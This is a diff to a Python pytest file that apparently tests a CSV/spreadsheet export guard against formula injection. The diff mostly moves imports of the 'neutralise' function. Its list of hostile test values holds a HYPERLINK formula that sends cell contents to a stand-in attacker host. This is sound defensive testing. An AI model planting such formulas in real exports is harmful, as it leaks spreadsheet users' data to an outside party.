@@ -12,9 +12,10 @@ from typing import Any
 import openpyxl
 import pytest
 
-from dnc import exports
-from dnc.api.view_history import HistoryItem
-from dnc.entries import Entry, EntryKey, Source
+from dnc.api.view.history import HistoryItem
+from dnc.domain.entries import Entry, EntryKey, Source
+from dnc.domain.spreadsheets import neutralise
+from dnc.files import exports
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -45,12 +46,12 @@ async def batches(entries: list[Any], size: int = 3) -> AsyncIterator[list[Any]]
 
 @pytest.mark.parametrize("value", HOSTILE)
 def test_formula_starts_are_neutralised(value: str) -> None:
-    assert exports.neutralise(value) == "'" + value
+    assert neutralise(value) == "'" + value
 
 
 @pytest.mark.parametrize("value", ["acme", "441234567890", "jane@example.com", "a=b", "", " x"])
 def test_ordinary_values_are_untouched(value: str) -> None:
-    assert exports.neutralise(value) == value
+    assert neutralise(value) == value
 
 
 def test_row_has_the_columns_of_the_page() -> None:
